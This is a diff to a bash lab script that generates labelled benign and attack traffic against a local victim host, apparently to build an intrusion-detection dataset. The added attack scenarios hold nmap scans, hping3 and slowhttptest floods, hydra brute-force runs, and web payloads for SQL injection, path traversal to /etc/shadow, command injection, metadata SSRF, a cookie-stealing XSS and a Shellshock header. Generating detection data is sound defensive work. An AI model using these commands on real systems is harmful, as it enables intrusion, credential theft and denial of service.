@@ -135,7 +135,8 @@ PasswordAuthentication yes
 KbdInteractiveAuthentication no
 UsePAM yes
 PermitRootLogin no
-MaxAuthTries 100
+# A few tries per connection, as real servers allow: brute force then shows as many short flows.
+MaxAuthTries 3
 MaxStartups 100:30:200
 PidFile $WORK/sshd.pid
 EOF
@@ -213,6 +214,22 @@ scenario_benign_ssh() {
 scenario_benign_ftp() {
   for i in 1 2 3 4 5; do timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"; done
 }
+# A longer, mixed session so the false-positive rate can be measured on thousands of benign flows.
+scenario_benign_mixed() {
+  for round in $(seq 1 150); do
+    page=$(( (round * 7) % 20 + 1 ))
+    timeout 10 curl -s -o /dev/null "http://$VIC_IP/page$page.html"
+    timeout 10 curl -sk -o /dev/null "https://$VIC_IP/page$(( (round * 3) % 20 + 1 )).html"
+    timeout 5 dig +short +tries=1 "svc$round.example.lab" @"$VIC_IP" >/dev/null
+    timeout 5 dig +short +tries=1 -t AAAA "svc$round.lab.test" @"$VIC_IP" >/dev/null
+    if (( round % 15 == 0 )); then
+      timeout 20 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+        "$LAB_USER@$VIC_IP" "cat /etc/hostname; sleep 0.$round" >/dev/null
+      timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"
+    fi
+    if (( round % 50 == 0 )); then timeout 20 wget -q -O /dev/null "http://$VIC_IP/big.bin"; fi
+  done
+}
 scenario_benign_bulk() { timeout 15 iperf3 -c "$VIC_IP" -t 3 -b 50M >/dev/null; timeout 15 iperf3 -c "$VIC_IP" -t 2 -R -b 20M >/dev/null; }
 
 # ---- attacks: bounded counts and times ----
@@ -246,6 +263,131 @@ scenario_web_attack() {
   done
 }
 
+# ---- variants: several per family, so whole scenarios can be held out in evaluation ----
+# Benign traffic also includes the "small response", 404, HEAD, range and form-POST requests that
+# attacks produce, so the models cannot learn "small answer = attack".
+scenario_benign_web_parallel() {
+  seq 1 600 | timeout 150 xargs -P 4 -I{} bash -c 'n={}; p=$(( n % 20 + 1 ));
+    case $(( n % 6 )) in
+      0) curl -sk -o /dev/null "https://$VIC_IP/page$p.html" ;;
+      1) curl -s -o /dev/null "http://$VIC_IP/missing-$p.png" ;;
+      2) curl -s -I -o /dev/null "http://$VIC_IP/page$p.html" ;;
+      3) curl -s -o /dev/null -r 0-$(( n * 37 % 60000 )) "http://$VIC_IP/big.bin" ;;
+      *) curl -s -o /dev/null "http://$VIC_IP/page$p.html?ref=home&item=$n" ;;
+    esac'
+}
+scenario_benign_web_keepalive() {
+  for round in $(seq 1 120); do
+    a=$(( round % 20 + 1 )); b=$(( (round * 3) % 20 + 1 )); c=$(( (round * 7) % 20 + 1 ))
+    timeout 15 wget -q -O /dev/null "http://$VIC_IP/page$a.html" "http://$VIC_IP/page$b.html" \
+      "http://$VIC_IP/index.html" "http://$VIC_IP/page$c.html"
+    if (( round % 4 == 0 )); then
+      timeout 5 curl -s -o /dev/null -d "comment=hello+there+$round&topic=support" "http://$VIC_IP/app/feedback"
+    fi
+    if (( round % 5 == 0 )); then timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/"; fi
+  done
+}
+scenario_benign_dns_burst() {
+  seq 1 900 | timeout 120 xargs -P 2 -I{} bash -c 'n={};
+    case $(( n % 5 )) in
+      0) dig +short +tries=1 -t MX "mail$n.lab.test" @"$VIC_IP" ;;
+      1) dig +short +tries=1 -t AAAA "www$n.example.lab" @"$VIC_IP" ;;
+      2) dig +short +tries=1 -t TXT "txt$n.lab.test" @"$VIC_IP" ;;
+      3) dig +short +tries=1 +tcp "tcp$n.lab.test" @"$VIC_IP" ;;
+      *) dig +short +tries=1 "host$n.lab.test" @"$VIC_IP" ;;
+    esac >/dev/null'
+}
+scenario_benign_mixed_slow() {
+  for round in $(seq 1 260); do
+    timeout 10 curl -s -o /dev/null "http://$VIC_IP/page$(( (round * 11) % 20 + 1 )).html"
+    timeout 5 dig +short +tries=1 "slow$round.lab.test" @"$VIC_IP" >/dev/null
+    if (( round % 3 == 0 )); then timeout 10 curl -sk -o /dev/null "https://$VIC_IP/index.html"; fi
+    if (( round % 40 == 0 )); then
+      timeout 20 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+        "$LAB_USER@$VIC_IP" "df -h; sleep 2; date" >/dev/null
+    fi
+    if (( round % 30 == 0 )); then timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/"; fi
+    sleep "0.$(( round % 4 ))"
+  done
+}
+scenario_benign_ssh_long() {
+  for i in 1 2 3; do
+    timeout 40 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+      "$LAB_USER@$VIC_IP" "for k in 1 2 3 4 5 6; do ls -la /usr/bin | head -50; sleep 2; done" >/dev/null &
+  done
+  for i in 1 2 3 4; do
+    timeout 20 sshpass -p "$LAB_PASS" scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+      "$WORK/www/page$((i * 4)).html" "$LAB_USER@$VIC_IP:upload$i.html" >/dev/null
+  done
+  wait
+}
+scenario_benign_ftp_listing() {
+  for i in $(seq 1 15); do
+    timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/"
+    timeout 20 curl -s -o /dev/null -r 0-$(( i * 9000 )) "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"
+  done
+}
+scenario_benign_bulk_udp() {
+  timeout 15 iperf3 -c "$VIC_IP" -u -t 3 -b 5M >/dev/null
+  timeout 15 iperf3 -c "$VIC_IP" -t 2 -P 4 -b 10M >/dev/null
+}
+scenario_portscan_syn_top() { timeout 90 nmap -n -Pn -sS --top-ports 1000 -T3 "$VIC_IP"; }
+scenario_portscan_syn_fast() { timeout 90 nmap -n -Pn -sS -p 1-6000 -T5 --max-retries 0 "$VIC_IP"; }
+scenario_portscan_connect_top() { timeout 90 nmap -n -Pn -sT --top-ports 600 -T3 "$VIC_IP"; }
+scenario_portscan_ack_window() {
+  timeout 60 nmap -n -Pn -sA -p 1-800 -T4 "$VIC_IP"
+  timeout 60 nmap -n -Pn -sW -p 800-1600 -T4 "$VIC_IP"
+}
+scenario_portscan_udp_top() { timeout 90 nmap -n -Pn -sU --top-ports 120 --max-retries 1 -T5 "$VIC_IP"; }
+scenario_dos_syn_flood_443() { timeout 60 hping3 -S -p 443 -i u80 -d 20 -c 15000 "$VIC_IP"; }
+scenario_dos_syn_flood_22() { timeout 60 hping3 -S -p 22 -w 1024 -i u150 -c 10000 "$VIC_IP"; }
+scenario_dos_ack_flood() { timeout 60 hping3 -A -p 80 -i u100 -c 12000 "$VIC_IP"; }
+scenario_dos_udp_flood_big() { timeout 60 hping3 --udp -p 5201 -i u300 -d 1200 -c 8000 "$VIC_IP"; }
+scenario_dos_udp_flood_snmp() { timeout 60 hping3 --udp -p 161 -i u150 -d 40 -c 12000 "$VIC_IP"; }
+scenario_dos_icmp_flood_big() { timeout 60 hping3 --icmp -i u300 -d 1400 -c 6000 "$VIC_IP"; }
+scenario_dos_http_flood_c10() { timeout 60 ab -n 8000 -c 10 "http://$VIC_IP/page3.html"; }
+scenario_dos_http_flood_c200() { timeout 60 ab -n 10000 -c 200 "http://$VIC_IP/page1.html"; }
+scenario_dos_http_flood_curl() {
+  seq 1 2500 | timeout 60 xargs -P 16 -I{} curl -s -o /dev/null "http://$VIC_IP/index.html?flood={}"
+}
+scenario_slow_dos_slowloris_fast() { timeout 45 slowhttptest -H -c 200 -r 50 -i 2 -l 22 -u "http://$VIC_IP/page2.html" -p 3; }
+scenario_slow_dos_slowread() {
+  timeout 45 slowhttptest -X -c 150 -r 50 -w 512 -y 1024 -n 5 -z 32 -k 3 -l 22 -u "http://$VIC_IP/big.bin" -p 3
+}
+scenario_slow_dos_slowloris_https() { timeout 45 slowhttptest -H -c 150 -r 50 -i 4 -l 22 -u "https://$VIC_IP/" -p 3; }
+scenario_slow_dos_slowbody_fast() { timeout 45 slowhttptest -B -c 150 -r 60 -i 2 -l 22 -s 4096 -u "http://$VIC_IP/app/feedback" -p 3; }
+scenario_brute_force_ssh_t8() { timeout 60 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 8 -I "ssh://$VIC_IP"; }
+scenario_brute_force_ssh_t2() { timeout 50 hydra -l "$LAB_USER" -e nsr -P "$LAB_DIR/wordlist.txt" -t 2 -I "ssh://$VIC_IP"; }
+scenario_brute_force_ftp_t8() { timeout 60 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 8 -I "ftp://$VIC_IP"; }
+scenario_brute_force_ftp_t1() { timeout 50 hydra -l root -e nsr -P "$LAB_DIR/wordlist.txt" -t 1 -I "ftp://$VIC_IP"; }
+scenario_web_attack_sqli() {
+  local payloads=("id=1%20AND%20SLEEP(5)--" "id=1%27%20AND%201=1--%20-" "id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--"
+    "id=1;DROP%20TABLE%20users--" "user=admin%27--&pass=x" "id=1%29%20OR%20%28%271%27=%271")
+  for round in $(seq 1 25); do
+    for payload in "${payloads[@]}"; do timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/item?$payload&n=$round"; done
+    timeout 5 curl -s -o /dev/null --data "username=admin%27%20OR%201=1--&password=$round" "http://$VIC_IP/app/login"
+  done
+}
+scenario_web_attack_xss_lfi() {
+  local payloads=("q=%3Csvg/onload=alert(1)%3E" "page=....//....//....//etc/shadow" "cmd=;cat%20/etc/passwd"
+    "url=http://169.254.169.254/latest/meta-data/" "name=%22%3E%3Cscript%3Edocument.location=%27http://x/%27%2Bdocument.cookie%3C/script%3E"
+    "file=php://filter/convert.base64-encode/resource=index.php")
+  for round in $(seq 1 25); do
+    for payload in "${payloads[@]}"; do
+      timeout 5 curl -s -o /dev/null -A "() { :; }; /bin/bash -c 'id'" "http://$VIC_IP/app/view?$payload&r=$round"
+    done
+  done
+}
+scenario_web_attack_login_brute() {
+  local n=0
+  while read -r word && (( n < 96 )); do
+    n=$((n + 1))
+    for user in admin webmaster; do
+      timeout 5 curl -s -o /dev/null -d "username=$user&password=$word&submit=Login" "http://$VIC_IP/app/login"
+    done
+  done <"$LAB_DIR/wordlist.txt"
+}
+
 setup_network
 start_servers
 command -v sshpass >/dev/null || { echo "lab: missing tool 'sshpass'" >&2; exit 1; }
@@ -259,6 +401,7 @@ run_scenario benign_dns BENIGN benign atk scenario_benign_dns
 run_scenario benign_ssh BENIGN benign atk scenario_benign_ssh
 run_scenario benign_ftp BENIGN benign atk scenario_benign_ftp
 run_scenario benign_bulk BENIGN benign atk scenario_benign_bulk
+run_scenario benign_mixed BENIGN benign atk scenario_benign_mixed
 run_scenario portscan_syn Portscan portscan atk scenario_portscan_syn
 run_scenario portscan_connect Portscan portscan atk scenario_portscan_connect
 run_scenario portscan_fin_xmas_null Portscan portscan atk scenario_portscan_fin_xmas_null
@@ -273,4 +416,36 @@ run_scenario slow_dos_slowbody 'DoS Slowhttptest' slow_dos atk scenario_slow_dos
 run_scenario brute_force_ssh SSH-Patator brute_force atk scenario_brute_force_ssh
 run_scenario brute_force_ftp FTP-Patator brute_force atk scenario_brute_force_ftp
 run_scenario web_attack 'Web Attack' web_attack atk scenario_web_attack
+run_scenario benign_web_parallel BENIGN benign atk scenario_benign_web_parallel
+run_scenario benign_web_keepalive BENIGN benign atk scenario_benign_web_keepalive
+run_scenario benign_dns_burst BENIGN benign atk scenario_benign_dns_burst
+run_scenario benign_mixed_slow BENIGN benign atk scenario_benign_mixed_slow
+run_scenario benign_ssh_long BENIGN benign atk scenario_benign_ssh_long
+run_scenario benign_ftp_listing BENIGN benign atk scenario_benign_ftp_listing
+run_scenario benign_bulk_udp BENIGN benign atk scenario_benign_bulk_udp
+run_scenario portscan_syn_top Portscan portscan atk scenario_portscan_syn_top
+run_scenario portscan_syn_fast Portscan portscan atk scenario_portscan_syn_fast
+run_scenario portscan_connect_top Portscan portscan atk scenario_portscan_connect_top
+run_scenario portscan_ack_window Portscan portscan atk scenario_portscan_ack_window
+run_scenario portscan_udp_top Portscan portscan atk scenario_portscan_udp_top
+run_scenario dos_syn_flood_443 'DoS SYN flood' dos atk scenario_dos_syn_flood_443
+run_scenario dos_syn_flood_22 'DoS SYN flood' dos atk scenario_dos_syn_flood_22
+run_scenario dos_ack_flood 'DoS ACK flood' dos atk scenario_dos_ack_flood
+run_scenario dos_udp_flood_big 'DoS UDP flood' dos atk scenario_dos_udp_flood_big
+run_scenario dos_udp_flood_snmp 'DoS UDP flood' dos atk scenario_dos_udp_flood_snmp
+run_scenario dos_icmp_flood_big 'DoS ICMP flood' dos atk scenario_dos_icmp_flood_big
+run_scenario dos_http_flood_c10 'DoS HTTP flood' dos atk scenario_dos_http_flood_c10
+run_scenario dos_http_flood_c200 'DoS HTTP flood' dos atk scenario_dos_http_flood_c200
+run_scenario dos_http_flood_curl 'DoS HTTP flood' dos atk scenario_dos_http_flood_curl
+run_scenario slow_dos_slowloris_fast 'DoS Slowloris' slow_dos atk scenario_slow_dos_slowloris_fast
+run_scenario slow_dos_slowread 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowread
+run_scenario slow_dos_slowloris_https 'DoS Slowloris' slow_dos atk scenario_slow_dos_slowloris_https
+run_scenario slow_dos_slowbody_fast 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowbody_fast
+run_scenario brute_force_ssh_t8 SSH-Patator brute_force atk scenario_brute_force_ssh_t8
+run_scenario brute_force_ssh_t2 SSH-Patator brute_force atk scenario_brute_force_ssh_t2
+run_scenario brute_force_ftp_t8 FTP-Patator brute_force atk scenario_brute_force_ftp_t8
+run_scenario brute_force_ftp_t1 FTP-Patator brute_force atk scenario_brute_force_ftp_t1
+run_scenario web_attack_sqli 'Web Attack - SQL Injection' web_attack atk scenario_web_attack_sqli
+run_scenario web_attack_xss_lfi 'Web Attack - XSS' web_attack atk scenario_web_attack_xss_lfi
+run_scenario web_attack_login_brute 'Web Attack - Brute Force' web_attack atk scenario_web_attack_login_brute
 log "done: captures and ground truth in $OUT_DIR"
